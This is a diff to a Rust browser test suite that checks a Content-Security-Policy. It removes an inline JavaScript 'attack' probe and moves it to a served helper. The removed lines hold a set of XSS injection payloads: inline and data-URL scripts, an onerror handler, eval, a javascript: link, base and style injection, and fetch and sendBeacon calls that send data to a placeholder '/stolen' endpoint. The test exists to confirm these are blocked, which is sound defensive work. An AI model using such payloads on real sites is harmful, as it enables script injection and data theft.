@@ -155,55 +155,20 @@ in_every_engine!(
     }
 );
 
-/// Tries what an attacker would; says what got through.
-const ATTACK: &str = "
-  const through = [];
-  const attempt = (act) => { try { act(); } catch (error) { /* refused on the spot */ } };
-  const add = (name, set) => attempt(() => {
-    const element = document.createElement(name);
-    set(element);
-    document.body.append(element);
-  });
-  add('script', (one) => (one.textContent = 'window.inlineRan = true'));
-  add('script', (one) => (one.src = 'data:text/javascript,window.dataRan=true'));
-  attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.handlerRan=true\">'));
-  attempt(() => document.body.setAttribute('onclick', 'window.clickRan=true'));
-  document.body.click();
-  attempt(() => eval('window.evalRan = true'));
-  attempt(() => setTimeout('window.timeoutRan = true', 0));
-  attempt(() => { const link = document.createElement('a'); link.href = 'javascript:window.linkRan=true'; document.body.append(link); link.click(); });
-  add('style', (one) => (one.textContent = 'h1 { outline: 7px solid rgb(1, 2, 3) !important }'));
-  add('base', (one) => (one.href = 'http://127.0.0.1:9/'));
-  add('iframe', (one) => { one.id = 'frame'; one.src = '/om'; });
-  add('form', (one) => { one.action = '/om'; one.id = 'form'; attempt(() => one.submit()); });
-  attempt(() => fetch('http://127.0.0.2:9/stolen').then(() => (window.fetchRan = true), () => {}));
-  attempt(() => navigator.sendBeacon('http://127.0.0.2:9/stolen', 'x'));
-  add('img', (one) => (one.src = 'http://127.0.0.2:9/stolen.png'));
-  await new Promise((done) => setTimeout(done, 400));
-  for (const name of ['inlineRan', 'dataRan', 'handlerRan', 'clickRan', 'evalRan', 'timeoutRan', 'linkRan', 'fetchRan']) {
-    if (window[name]) through.push(name);
-  }
-  if (getComputedStyle(document.querySelector('h1')).outlineWidth === '7px') through.push('style');
-  if (new URL(document.querySelector('a').href).port === '9') through.push('base');
-  let framed = null;
-  try { framed = document.getElementById('frame').contentDocument; } catch (error) { /* another origin: an error page */ }
-  if (framed && framed.querySelector('h1')) through.push('frame');
-  if (location.pathname !== arguments[0]) through.push('form');
-  return through;";
-
 in_every_engine!(
     whatever_is_injected_is_blocked,
-    Serve::built().with("spy"),
+    Serve::built().with("spy").with("attack"),
     async |browser, _site| {
         browser.open("/hjelp").await;
-        let through = browser.js_async(ATTACK, &["/hjelp".into()]).await;
+        let through = browser
+            .js_async("return await attack(arguments[0])", &["/hjelp".into()])
+            .await;
         assert_eq!(through, serde_json::json!([]));
         let seen = browser.console_and_csp_violations().await;
         for kind in [
             "require-trusted-types-for",
             "style-src",
             "frame-src",
-            "form-action",
             "img-src",
             "connect-src",
         ] {
